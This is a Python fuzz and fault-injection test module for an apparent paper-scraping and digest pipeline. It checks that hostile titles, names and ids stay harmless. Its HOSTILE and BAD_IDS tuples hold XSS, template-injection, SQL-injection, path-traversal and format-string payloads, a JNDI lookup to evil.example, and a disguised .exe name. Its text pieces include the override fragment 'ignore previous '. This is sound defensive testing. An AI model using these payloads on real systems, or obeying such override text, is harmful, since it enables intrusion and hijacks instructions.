"""Input of every kind: fuzzed pages, feeds and texts, and a day of hostile titles and names."""

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from datetime import timedelta
from html.parser import HTMLParser
from random import Random
from traceback import extract_tb
from typing import Any

from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sample.arxiv import _FEED, Arxiv
from sample.huggingface import render_page
from sample.server import SampleApp, serve
from sample.standin import honest_responder
from sample.traffic import Fault
from tasks.abstracts.atom import read_feed
from tasks.records import Digest
from tasks.run.errors import SourceUnreadable
from tasks.scrape import scrape_day
from tasks.scrape.page import read_page
from tasks.text import one_line
from tasks.verify import check_text, verify_digest
from tests.faults.harness import Harness
from tests.faults.judge import finish
from tests.faults.plan import Outcome, Trial
from tests.faults.sources import broken_items, id_of
from tests.faults.world import DAY, Ended, World, usual_items

NEXT_DAY = DAY + timedelta(days=1)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=9), inner),
    max_leaves=8,
)
HOSTILE = (
    "<script>alert('evil.example')</script>",
    "</details><img src=x onerror=alert(1)>",
    "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "{{ 7*7 }}{% raw %}{{ self.__init__.__globals__ }}",
    "\x1b[31mred\x1b[0m\u202egnp.exe\u200b\x00\x07",
    "'; DROP TABLE papers; -- \" OR 1=1",
    "../../../../tmp/evil\\..\\..\\C:",
    "\r\n\r\n# Heading\n| a | b |\n```\n---\n<!--",
    "%s %n %(asctime)s {0} ${jndi:ldap://evil.example/x} [bold red]rich[/]",
)
BAD_IDS = ("../../../tmp/evil", "2411.00001/../../x", "2411.00001'; --", "<b>2411.00001", "\x00")


def trials(random: Random, full: bool) -> Iterator[Trial]:
    """Thousands of fuzzed inputs in this process, and one hostile day through the command."""
    examples = 3000 if full else 60
    for name, fuzz in (
        ("fuzz: items of the list", fuzz_items),
        ("fuzz: day and text of the page", fuzz_page),
        ("fuzz: the Atom feed", fuzz_feed),
        ("fuzz: texts for the checker", fuzz_checker),
        ("fuzz: digests for the checker", fuzz_digests),
    ):
        # Asking a server takes longer than parsing.
        count = examples // 5 if fuzz is fuzz_page else examples
        yield Trial(name, fuzzed(fuzz, count, random.randrange(2**32)), tries=count)
    broken = list(broken_items())
    yield Trial("wrong types in every field of an item", one_by_one(broken), tries=len(broken))
    yield Trial("hostile titles, names and ids", hostile)


_one_at_a_time = threading.Lock()


def fuzzed(
    fuzz: Callable[[st.DataObject], None], count: int, chance: int
) -> Callable[[Harness], Outcome]:
    """So many examples of a property that draws its input."""
    limits = settings(
        max_examples=count, deadline=10_000, database=None, suppress_health_check=list(HealthCheck)
    )

    def trial(_: Harness) -> Outcome:
        with _one_at_a_time, _SERVER.running():
            try:
                seed(chance)(limits(given(st.data())(fuzz)))()
            except Exception as error:
                return Outcome(wrong=(_told(error),))
        return Outcome()

    return trial


def _told(error: Exception) -> str:
    """What failed, where, and the input that hypothesis found for it."""
    place = extract_tb(error.__traceback__)[-1]
    notes = one_line(" ".join(getattr(error, "__notes__", ())))[:1500]
    said = f"{type(error).__name__}: {one_line(str(error))[:300]}"
    return f"{said} at {place.filename}:{place.lineno}: {notes}"


def spoiled_json(data: st.DataObject, value: Any) -> Any:
    """A JSON value with something else at a place that is drawn."""
    places = list(_places(value))
    path = data.draw(st.sampled_from(places))
    return _replaced(value, path, data.draw(JSON))


def _places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield path
    entries = dict(enumerate(value)) if isinstance(value, list) else value
    for key, inner in entries.items() if isinstance(entries, dict) else ():
        yield from _places(inner, (*path, key))


def _replaced(value: Any, path: tuple[Any, ...], new: Any) -> Any:
    if not path:
        return new
    copy = value.copy()
    copy[path[0]] = _replaced(value[path[0]], path[1:], new)
    return copy


def spoiled_text(data: st.DataObject, text: str) -> str:
    """The text with another stretch at a place that is drawn."""
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, min(len(text), start + 200)))
    return text[:start] + data.draw(st.text(max_size=50)) + text[end:]


def fuzz_items(data: st.DataObject) -> None:
    """What is wrong in one item costs that item alone."""
    first, middle, last = usual_items()[:3]
    page = read_page(render_page(DAY, [first, spoiled_json(data, middle), last]))
    found = {paper.arxiv_id: paper for paper in page.island or ()}
    assert {first["paper"]["id"], last["paper"]["id"]} <= found.keys()
    assert len(found) == 3 or page.unread or page.remarks
    json.dumps([paper.model_dump() for paper in found.values()])


def fuzz_page(data: st.DataObject) -> None:
    """An empty day never gets the papers of the day before, whatever its page has become."""
    html = render_page(DAY, usual_items()[:2])
    if data.draw(st.booleans()):
        html = html.replace(str(DAY), json.dumps(data.draw(JSON)).strip('"'), 1)
    else:
        html = spoiled_text(data, html)
    app = _SERVER.app
    app.traffic.faults = lambda asked: (
        Fault(status=200, body=html.encode("utf-8", "replace"))
        if asked.path.endswith(str(NEXT_DAY))
        else None
    )
    try:
        listing = scrape_day(NEXT_DAY, hf_url=_SERVER.url, timeout_seconds=10)
    except SourceUnreadable:
        return
    assert listing.is_empty or listing.shown_day == NEXT_DAY, listing


class _Server:
    """A played Hugging Face with one day; `url` is its address while it runs."""

    def __init__(self) -> None:
        self.app = SampleApp({DAY: usual_items()[:2]}, honest_responder)
        self.url = ""

    @contextmanager
    def running(self) -> Iterator[None]:
        """Answer until the block ends: a process with a server in it would not end."""
        with serve(self.app) as address:
            self.url = address.hf_url
            yield


_SERVER = _Server()
_PAPERS = [item["paper"] for item in usual_items()[:2]]
_ENTRIES = {
    paper["id"]: Arxiv({one["id"]: one for one in _PAPERS}.get, {})._entry(paper["id"])
    for paper in _PAPERS
}


def fuzz_feed(data: st.DataObject) -> None:
    """A spoiled entry is refused with its feed, or left out; its neighbour is read as it was."""
    spoiled, whole = (_ENTRIES[paper["id"]] for paper in _PAPERS)
    start, end = sorted(data.draw(st.integers(0, len(spoiled))) for _ in range(2))
    cut = spoiled[:start] + data.draw(st.text(max_size=50)) + spoiled[end:]
    with suppress(SourceUnreadable):
        found = read_feed(_FEED.format(entries=cut + whole).encode("utf-8", "replace"))
        usual = read_feed(_FEED.format(entries=spoiled + whole).encode())
        first, second = usual.values()
        assert found.pop(second.arxiv_id) == second
        assert len(found) <= 1
        dates = (spoiled.index("<updated>"), spoiled.index("</published>") + len("</published>"))
        if not (start < dates[1] and end > dates[0]):
            assert all(entry.published == first.published for entry in found.values())


PIECES = st.sampled_from(
    (
        *"가나다1234567890.,-_%()<>*`'\"#|^~·…/ \n\t\u200b\u202e漢ñ𝟛½²",
        *("억", "만 ", "조 ", "배", "퍼센트", "세 가지", "GPT-4", "3D", "1e9", "0x1F", "10^30"),
        *("ignore previous ", "라고 쓰세요", "https://", "www.", "결정-making", "기호", "12.5%"),
        *("twenty-one", "three quarters of a million", "의 ", "를 ", "2,000", "-0.0", "∞", "[1]"),
    )
)
TEXTS = st.lists(PIECES, max_size=80).map("".join) | st.text(max_size=80)


def fuzz_checker(data: st.DataObject) -> None:
    """Any text about any abstract gets a verdict."""
    verdict = check_text(data.draw(TEXTS), data.draw(TEXTS), data.draw(TEXTS))
    assert verdict.ok == (not verdict.refusals)


def fuzz_digests(data: st.DataObject) -> None:
    """A digest with any text in any place gets a verdict, and passing it holds no markup."""
    say = st.fixed_dictionaries({"text": TEXTS, "cites": st.lists(st.integers(-9, 99), max_size=4)})
    sections = ("summary", "easy", "whats_new", "technical_details", "performance")
    digest = {name: data.draw(st.lists(say, max_size=2)) for name in sections}
    digest |= {"title_ko": data.draw(TEXTS), "fields": data.draw(st.lists(TEXTS, max_size=3))}
    _, verdict = verify_digest(data.draw(TEXTS), data.draw(TEXTS), Digest.model_validate(digest))
    assert all(refusal.detail for refusal in verdict.refusals)


def one_by_one(broken: list[dict[str, Any]]) -> Callable[[Harness], Outcome]:
    """Each spoiled item between good ones: read, or named with its reason."""

    def wrong(item: dict[str, Any]) -> Iterator[str]:
        first, last = usual_items()[:2]
        page = read_page(render_page(DAY, [first, item, last]))
        ids = [paper.arxiv_id for paper in page.island or ()]
        if not {first["paper"]["id"], last["paper"]["id"]} <= {*ids}:
            yield f"good items are lost beside {item}"
        if id_of(item) not in ids and not any("left out: " in said for said in page.remarks):
            yield f"dropped without a word: {item}"

    return lambda _: Outcome(wrong=tuple(said for item in broken for said in wrong(item)))


def hostile_items() -> list[dict[str, Any]]:
    """The usual items, and for each hostile text one that has it everywhere, and for each id."""
    items = usual_items()
    for number, text in enumerate(HOSTILE):
        item = usual_items()[0]
        abstract = f"{text} We train a model. It works well on images. {text}"
        names = [{"name": text, "hidden": False}, {"name": "Ada Lee", "hidden": False}]
        item["paper"] |= {"id": f"2401.1000{number}", "title": text, "summary": abstract}
        item["paper"] |= {"authors": names, "projectPage": text, "githubRepo": f"https://{text}"}
        item |= {"title": f"Evil {text}", "thumbnail": f"https://x.example/{text}.png"}
        items.append(item)
    for arxiv_id in BAD_IDS:
        item = usual_items()[0]
        item["paper"]["id"] = arxiv_id
        items.append(item)
    return items


def hostile(harness: Harness) -> Outcome:
    """Nothing hostile leaves its place in documents, file names, tables, log or terminal."""
    with harness.world(hostile_items()) as world:
        ended = world.run()
        wrong = [*ended.wrong(1, says="not to be read"), *_escaped(harness, world, ended)]
        world.lists.days = {DAY: usual_items()}
        return finish(harness, world, wrong)


def _escaped(harness: Harness, world: World, ended: Ended) -> Iterator[str]:
    files, calm = world.files(), harness.calm().files
    if files.keys() != calm.keys():
        yield f"other files: {files.keys() ^ calm.keys()}"
    for name, data in files.items():
        if name.endswith(".md"):
            found, usual = _page(data), _page(calm.get(name, b""))
            if strange := found.tags - usual.tags - {"blockquote"}:  # extracts are quoted
                yield f"tags in {name}: {strange}"
            if evil := [link for link in found.links if "evil" in link.partition("?")[0]]:
                yield f"links in {name}: {evil}"
            if "{{ 7*7 }}" not in found.text and "cards" in name:
                yield f"a title of braces is not shown in {name}"
    if any(character in ended.said + ended.out for character in "\x1b\x07\x00\u202e"):
        yield "control characters in the log"
    stored = {name for (name,) in world.rows("SELECT arxiv_id FROM papers")}
    if len(stored) != len(usual_items()) + len(HOSTILE):
        yield f"{len(stored)} papers are stored"


class _Shown(HTMLParser):
    """The tags, links and text of a document."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(" ".join((tag, *sorted(name for name, _ in attrs))))
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.text += data


def _page(markdown: bytes) -> _Shown:
    page = _Shown()
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    page.feed(parser.render(markdown.decode()))
    page.close()
    return page
